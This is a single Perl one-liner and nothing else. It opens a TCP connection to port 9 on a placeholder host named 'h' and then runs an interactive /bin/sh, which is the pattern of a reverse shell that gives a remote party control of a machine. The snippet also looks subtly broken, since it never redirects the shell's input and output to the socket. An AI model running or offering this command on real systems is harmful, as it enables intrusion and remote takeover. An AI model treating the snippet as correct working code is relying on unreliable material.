perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(9,inet_aton("h")));exec("/bin/sh -i");'
